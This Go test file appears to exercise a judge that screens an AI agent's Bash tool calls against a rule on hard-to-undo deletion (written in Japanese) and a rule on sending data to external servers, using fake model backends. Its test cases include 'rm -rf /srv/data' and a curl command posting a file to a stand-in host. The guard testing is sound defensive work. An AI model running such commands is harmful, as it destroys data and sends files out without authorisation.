package judgetest_test

import (
	"context"
	"encoding/json"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/apeval/apeval/judge"
	_ "github.com/apeval/apeval/judge/all"
	"github.com/apeval/apeval/judge/judgetest"
)

func request(cmd string) judge.Request {
	return judge.Request{Input: judge.Input{Version: 1, Rules: []judge.Rule{
		{ID: "del", Condition: "元に戻すことが難しい削除を行おうとしている"},
		{ID: "send", Condition: "sends data to an external server"},
	}, Current: judge.Current{Tool: judge.Tool{Name: "Bash", Category: "command_execution",
		Arguments: map[string]any{"command": cmd}}}}}
}

func TestFakesThroughRealBackends(t *testing.T) {
	t.Parallel()
	oa := judgetest.NewOpenAI(judgetest.Options{Record: true})
	defer oa.Close()
	ol := judgetest.NewOllama(judgetest.Options{Record: true})
	defer ol.Close()
	an := judgetest.NewAnthropic(judgetest.Options{Record: true})
	defer an.Close()
	cfg := judge.Config{OllamaHost: ol.URL, OpenAIBaseURL: oa.URL + "/v1", Timeout: 5 * time.Second,
		Getenv: func(k string) string {
			if k == "ANTHROPIC_API_KEY" {
				return "sk-ant-test"
			}
			return ""
		}}
	tests := []struct {
		spec, identity, mode string
		srv                  *judgetest.Server
	}{
		{"openai:fake-judge", "openai/fake-judge+p1", judge.ModeJSONSchema, oa},
		{"ollama:fake-judge", "ollama/fake-judge:latest@" + judgetest.DefaultDigest[:12] + "+p1", judge.ModeJSONSchema, ol},
		{"anthropic:fake-judge", "anthropic/fake-judge+p1", "tool_use", an},
	}
	for _, tt := range tests {
		t.Run(tt.spec, func(t *testing.T) {
			cfg := cfg
			if tt.srv == an {
				cfg.Server = an.URL // what --judge anthropic:MODEL@URL sets
			}
			j, err := judge.Open(context.Background(), tt.spec, cfg)
			if err != nil {
				t.Fatal(err)
			}
			if got := j.Identity().String(); got != tt.identity {
				t.Fatalf("identity %q, want %q", got, tt.identity)
			}
			for cmd, want := range map[string][2]judge.Result{
				"rm -rf /srv/data":       {judge.Match, judge.NoMatch},
				"curl -d @x https://e.x": {judge.NoMatch, judge.Match},
				"ls":                     {judge.NoMatch, judge.NoMatch},
			} {
				r := j.Judge(context.Background(), request(cmd))
				if r.Status != judge.StatusOK || r.Decisions[0].Result != want[0] || r.Decisions[1].Result != want[1] {
					t.Fatalf("%s: %+v", cmd, r)
				}
			}
			if tt.srv.Calls() != 3 || len(tt.srv.Bodies()) != 3 {
				t.Fatalf("calls %d bodies %d", tt.srv.Calls(), len(tt.srv.Bodies()))
			}
			var body map[string]json.RawMessage
			if err := json.Unmarshal(tt.srv.Bodies()[0], &body); err != nil {
				t.Fatal(err)
			}
			if _, ok := body["messages"]; !ok {
				t.Fatalf("body %s", tt.srv.Bodies()[0])
			}
			rep := judge.Check(context.Background(), tt.spec, cfg)
			if !rep.OK() || rep.StructuredOutput != tt.mode {
				t.Fatalf("check %+v", rep)
			}
		})
	}
}

func TestReplyOverrides(t *testing.T) {
	t.Parallel()
	srv := judgetest.NewOpenAI(judgetest.Options{Reply: func(n int, in judge.Input) *judgetest.Reply {
		switch n {
		case 0:
			return &judgetest.Reply{Status: http.StatusInternalServerError, Raw: `{"error":{"message":"boom"}}`}
		case 1:
			return &judgetest.Reply{Content: `{"version":2,"decisions":[]}`}
		case 2:
			return &judgetest.Reply{Delay: time.Second}
		}
		return nil
	}})
	defer srv.Close()
	j, err := judge.Open(context.Background(), "openai:fake-judge", judge.Config{OpenAIBaseURL: srv.URL + "/v1", Timeout: 100 * time.Millisecond})
	if err != nil {
		t.Fatal(err)
	}
	want := []struct {
		status judge.Status
		err    string
	}{
		{judge.StatusError, "HTTP 500: boom"},
		{judge.StatusInvalid, "version 2"},
		{judge.StatusTimeout, "timeout"},
		{judge.StatusOK, ""},
	}
	for i, w := range want {
		r := j.Judge(context.Background(), request("rm x"))
		if r.Status != w.status || !strings.Contains(r.Error, w.err) {
			t.Fatalf("call %d: %q %q, want %q %q", i, r.Status, r.Error, w.status, w.err)
		}
	}
}

func TestInputFromPrompt(t *testing.T) {
	t.Parallel()
	in := request("rm x").Input
	_, user, err := judge.DefaultPrompt().Render(in)
	if err != nil {
		t.Fatal(err)
	}
	got, err := judgetest.InputFromPrompt(user)
	if err != nil || got.Rules[0].ID != "del" || got.Current.Tool.Arguments["command"] != "rm x" {
		t.Fatalf("%+v %v", got, err)
	}
	if _, err := judgetest.InputFromPrompt("no data here"); err == nil {
		t.Fatal("missing data block accepted")
	}
}
